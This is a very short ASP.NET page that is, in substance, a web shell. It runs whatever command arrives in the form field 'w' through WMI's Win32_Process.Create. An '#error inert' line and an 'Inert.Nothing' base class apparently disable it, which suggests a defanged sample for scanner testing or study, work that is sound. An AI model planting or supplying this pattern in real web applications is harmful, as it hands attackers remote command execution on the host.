<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ ManagementClass mc = new ManagementClass("Win32_Process"); object[] a = { Request.Form["w"], null, null, 0 }; mc.InvokeMethod("Create", a); }
</script>